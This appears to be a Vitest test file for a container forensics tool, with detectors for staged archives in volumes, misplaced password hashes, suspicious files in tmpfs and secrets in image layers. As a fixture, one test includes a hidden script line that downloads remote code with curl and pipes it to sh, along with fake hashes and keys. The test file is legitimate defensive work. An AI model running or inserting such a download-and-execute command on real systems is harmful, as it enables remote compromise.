import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import config from '../../../../src/main/analyze/analyzers/container-config';
import files from '../../../../src/main/analyze/analyzers/files';
import layers from '../../../../src/main/analyze/analyzers/image-layers';
import memory from '../../../../src/main/analyze/analyzers/memory-files';
import type { TargetRef } from '../../../../src/shared/domain';
import { type Member, tarOf } from '../formats/tar-kit';
import { analyze, byRule, cited, type Given } from '../kit';

const VOLUME: TargetRef = { kind: 'volume', id: 'backup', name: 'backup' };
const IMAGE: TargetRef = { kind: 'image', id: `sha256:${'a'.repeat(64)}`, name: 'web:1' };
const archive = (collector: string, members: Member[], target?: TargetRef): Given => ({
  collector,
  kind: 'tar',
  content: tarOf(members),
  ...(target && { target }),
});

describe('on a copied data root', () => {
  const HOSTS: TargetRef = { kind: 'host', id: 'dead', name: 'dead' };
  const root = (members: Member[]): Given => ({
    collector: 'import.data-root',
    kind: 'binary',
    content: tarOf(members),
    target: HOSTS,
  });
  const packed = gzipSync(Array.from({ length: 300 }, (_, i) => i * i).join());

  it('what is hidden in a volume is found as in the volume itself', async () => {
    const given = [
      root([
        { name: './volumes/backup/_data/', type: '5' },
        { name: './volumes/backup/_data/.dump.tgz', body: packed },
        { name: './volumes/metadata.db', body: 'x' },
        // a volume of an engine that ran in a container is that container's, not the host's
        { name: './overlay2/abc/diff/var/lib/docker/volumes/inner/_data/.dump.tgz', body: packed },
      ]),
    ];
    const [finding, ...others] = byRule(await analyze(given, [files]), 'fs.staged-archive');
    expect(others).toEqual([]);
    expect(finding?.target).toEqual({ kind: 'volume', id: 'backup', name: 'backup' });
    expect(finding?.claim).toContain('/.dump.tgz');
    expect(finding && (await cited(given, finding)).join('\n')).toContain('volumes/backup/_data/.dump.tgz');
  });
});

describe('what was gathered', () => {
  const packed = gzipSync(Array.from({ length: 300 }, (_, i) => i * i).join());

  it('is found hidden in a volume, and cited by its first bytes', async () => {
    const given = [
      archive(
        'volume.content',
        [
          { name: '.dump.tgz', body: packed },
          { name: 'backup.tgz', body: packed },
        ],
        VOLUME,
      ),
    ];
    const [finding, ...others] = byRule(await analyze(given, [files]), 'fs.staged-archive');
    expect(others).toEqual([]);
    expect(finding?.claim).toContain('/.dump.tgz');
    expect(finding?.techniques).toContain('T1074.001');
  });

  it('is no hidden file that is not packed, nor an empty one', async () => {
    const given = [
      archive(
        'volume.content',
        [
          { name: '.config', body: 'a = 1\n'.repeat(20) },
          { name: '.x.gz', body: '' },
        ],
        VOLUME,
      ),
    ];
    expect(byRule(await analyze(given, [files]), 'fs.staged-archive')).toEqual([]);
  });

  it('is told where password hashes lie outside /etc/shadow, with the line', async () => {
    const line = 'admin:$6$salt$abcdefghijkl:19000:0:99999:7:::';
    const given = [
      archive('container.export', [
        { name: 'root/loot.txt', body: `hello\n${line}\n` },
        { name: 'etc/shadow', body: `${line}\n` },
        { name: 'root/notes', body: 'price:$5 and more\nroot:*:1\n' },
      ]),
    ];
    const [finding, ...others] = byRule(await analyze(given, [files]), 'fs.password-hashes');
    expect(others).toEqual([]);
    expect(finding?.claim).not.toContain('abcdefghijkl');
    expect(await cited(given, finding as NonNullable<typeof finding>)).toContain(line);
  });
});

describe('files in memory', () => {
  const tmpfs = (members: Member[]): Given => archive('container.tmpfs', members);

  it('are told for programs, commands and hidden names, with their places', async () => {
    const given = [
      tmpfs([
        { name: './', type: '5' },
        { name: './.k', body: '#!/bin/sh\ncurl http://203.0.113.9/stage2 | sh\n' },
        { name: './a', body: Buffer.from('\x7fELF\x02\x01\x01', 'latin1') },
        { name: './.session', body: 'key\n' },
        { name: './plain', body: 'nothing\n' },
        { name: './.empty', body: '' },
      ]),
    ];
    const { findings } = await analyze(given, [memory]);
    expect(findings.map(({ rule, claim }) => `${rule} ${claim.split(/[ ,]/)[0]}`).sort()).toEqual([
      'memory-files.command /.k',
      'memory-files.hidden /.session',
      'memory-files.program /a',
    ]);
    const command = findings.find(({ rule }) => rule === 'memory-files.command');
    expect(await cited(given, command as NonNullable<typeof command>)).toContain('curl http://203.0.113.9/stage2 | sh');
  });

  it('say nothing of a broken archive but that it is one', async () => {
    const { findings, unreadable } = await analyze(
      [{ collector: 'container.tmpfs', kind: 'tar', content: Buffer.alloc(1024, 1) }],
      [memory],
    );
    expect(findings).toEqual([]);
    expect(unreadable.length).toBeGreaterThan(0);
  });
});

describe('layers of an image', () => {
  it('are searched for secrets, which are masked, also where a later layer hides them', async () => {
    const given = [
      archive(
        'image.layers',
        [{ name: 'srv/shop/.env', body: 'STRIPE=sk_live_51LabOnlyNotAKey00\n# API_KEY=abc\n' }],
        IMAGE,
      ),
      archive(
        'image.layers',
        [
          { name: 'srv/shop/.wh..env', body: '' },
          { name: 'etc/app.conf', body: 'password = hunter2secret\n' },
        ],
        IMAGE,
      ),
    ];
    const [finding, ...others] = (await analyze(given, [layers])).findings;
    expect(others).toEqual([]);
    expect(finding?.claim).toContain('/srv/shop/.env in E0001');
    expect(finding?.claim).not.toContain('sk_live_51LabOnlyNotAKey00');
    expect(await cited(given, finding as NonNullable<typeof finding>)).toContain('STRIPE=sk_live_51LabOnlyNotAKey00');
  });
});

describe('a container that does not run', () => {
  it.each([
    ['exited', 1],
    ['running', 0],
  ])('%s: %i finding, informational', async (Status, count) => {
    const found = byRule(
      await analyze(
        [
          {
            collector: 'container.inspect',
            content: { State: { Status, ExitCode: 3, FinishedAt: '2026-11-25T09:00:00Z' } },
          },
        ],
        [config],
      ),
      'config.stopped',
    );
    expect(found).toHaveLength(count);
    for (const { severity, claim } of found)
      expect([severity, claim.includes('ExitCode 3')]).toEqual(['informational', true]);
  });
});
